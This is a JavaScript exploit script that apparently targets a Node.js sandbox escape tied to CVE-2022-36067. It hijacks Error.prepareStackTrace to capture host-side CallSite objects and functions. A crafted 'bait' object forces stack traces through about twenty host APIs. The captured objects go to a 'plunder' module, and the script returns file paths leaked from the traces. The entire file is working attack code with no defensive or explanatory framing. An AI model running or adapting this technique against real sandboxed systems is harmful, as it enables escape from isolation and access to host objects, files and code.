// Error.prepareStackTrace and CallSite getThis/getFunction, while frames of ours are on the stack
// (CVE-2022-36067, GHSA-v27g-jcqj-v8rw).
const { collector, plunder } = require('./plunder.js');

async function execute(params) {
  const bag = collector();
  const texts = new Set();
  Error.stackTraceLimit = Infinity;
  Error.prepareStackTrace = (error, sites) => {
    for (const site of sites) {
      bag.take(site, site.getThis(), site.getFunction());
      for (const part of ['getFileName', 'getEvalOrigin', 'getScriptNameOrSourceURL', 'getTypeName']) texts.add(`${site[part]()}`);
    }
    return '';
  };
  const look = () => new Error('look').stack;
  const bait = {
    get property() { return look(); },
    toJSON: () => look(),
    toString: () => look(),
    [Symbol.toPrimitive]: () => look(),
    [Symbol.for('nodejs.util.inspect.custom')]: () => look(),
  };
  const spots = [
    () => echo(bait), () => echoSync(bait), () => console.log(bait), () => console.table([bait]),
    () => progress(bait, bait), () => artifacts.write(bait, 'x', { contentType: bait }),
    () => setTimeout(look, 0), () => queueMicrotask(look), () => failSync(), () => artifacts.write('x', 1),
    () => require('./missing.js'), () => require(bait), () => new URL('x:', bait), () => structuredClone(bait),
    () => new Proxy(bait, {}), () => new AbortController().signal.addEventListener('abort', look), () => console.trace(),
    () => new Promise(look) && 1, () => [1, 2].map(look), () => fail().catch(look), () => JSON.stringify(bait),
  ];
  for (const spot of spots) {
    try {
      await spot();
    } catch (error) {
      bag.take(error, error.stack);
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 5));
  Error.prepareStackTrace = undefined;
  const report = plunder(bag.values(), params);
  return { ...report, files: [...texts].slice(0, 100) };
}
